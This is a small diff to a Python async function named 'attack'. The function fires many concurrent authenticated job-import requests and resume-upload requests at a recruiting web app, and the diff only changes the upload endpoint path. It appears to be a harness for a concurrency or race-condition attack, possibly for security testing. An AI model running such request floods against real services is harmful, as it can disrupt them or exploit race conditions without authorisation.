@@ -73,7 +73,7 @@ async def attack(plan: dict) -> dict:
         tasks.append(post("import", cookies, url="/jobs/import", data={"url": page_url, "csrf_token": csrf}))
     for b, (cookies, csrf) in enumerate(plan["batches"]):
         files = [("files", (f"cv{b}-{n}.txt", _resume(b, n), "text/plain")) for n in range(plan["files_per_batch"])]
-        tasks.append(post("batch", cookies, url="/recruiter/upload", data={"csrf_token": csrf}, files=files))
+        tasks.append(post("batch", cookies, url="/recruiter/batches", data={"csrf_token": csrf}, files=files))
     running = [asyncio.ensure_future(t) for t in tasks]
     await asyncio.sleep(0.5)
     print("started", flush=True)
